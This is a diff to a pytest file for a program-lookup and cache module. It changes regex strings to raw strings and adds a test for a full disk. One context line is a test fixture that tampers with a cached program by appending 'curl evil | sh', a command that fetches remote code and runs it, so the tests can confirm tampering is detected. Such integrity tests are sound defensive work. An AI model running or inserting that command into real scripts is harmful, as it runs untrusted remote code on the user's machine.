@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import errno
 import os
 import signal
 import sys
 import threading
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from typing import NoReturn
 
 import pytest
 
@@ -69,7 +71,7 @@ def test_a_program_that_does_not_say_its_version_is_refused(
     """It may be anything."""
     executable(on_path / "tool", content)
 
-    with pytest.raises(TargetError, match="does not say its version|cannot be started"):
+    with pytest.raises(TargetError, match=r"does not say its version|cannot be started"):
         find("tool", lock_file=lock_file(tmp_path, tool=entry(command="tool")), cache=cache)
 
 
@@ -102,7 +104,7 @@ def test_all_reasons_are_told(tmp_path: Path, cache: Cache, server: ReleaseServe
     sources = [release(f"{server.url}/unpinned", None), release(f"{server.url}/gone", b"")]
 
     with pytest.raises(
-        TargetError, match="not on PATH; .*not in the cache; .*unpinned: refused.*gone: the server"
+        TargetError, match=r"not on PATH; .*not in the cache; .*unpinned: refused.*gone: the server"
     ) as it:
         find("tool", fetch=True, lock_file=lock_file(tmp_path, tool=entry(*sources)), cache=cache)
 
@@ -136,7 +138,7 @@ def test_a_stored_program_that_was_changed_is_refused(tmp_path: Path, cache: Cac
     first = find("tool", fetch=True, lock_file=lock, cache=cache)
     first.path.write_bytes(script() + b"curl evil | sh\n")
 
-    with pytest.raises(TargetError, match="is not what was stored there: .*; run `meshproof fetch tool`"):
+    with pytest.raises(TargetError, match=r"is not what was stored there: .*; run `meshproof fetch tool`"):
         find("tool", lock_file=lock, cache=cache)
 
     assert find("tool", fetch=True, lock_file=lock, cache=cache) == first
@@ -151,7 +153,7 @@ def test_a_stored_program_that_is_not_whole_is_refused(
     lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", script()), script())))
     (find("tool", fetch=True, lock_file=lock, cache=cache).path.parent.parent / damage).unlink()
 
-    with pytest.raises(TargetError, match="not what was stored|not in the cache"):
+    with pytest.raises(TargetError, match=r"not what was stored|not in the cache"):
         find("tool", lock_file=lock, cache=cache)
 
 
@@ -246,3 +248,20 @@ def test_a_killed_run_leaves_nothing_half_written(tmp_path: Path, cache: Cache, 
 
     assert stored(cache) == []
     assert find("tool", fetch=True, lock_file=lock, cache=cache).path.read_bytes() == LONG
+
+
+def test_a_disk_that_is_full_in_the_end_is_told(
+    tmp_path: Path, cache: Cache, server: ReleaseServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """When the finished program is entered into the cache."""
+    lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", script()), script())))
+
+    def fails(*_: object, **__: object) -> NoReturn:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    with monkeypatch.context() as patch:
+        patch.setattr(Cache, "keep", fails)
+        with pytest.raises(TargetError, match="cannot be written: No space left on device; free some space"):
+            find("tool", fetch=True, lock_file=lock, cache=cache)
+
+    assert stored(cache) == []
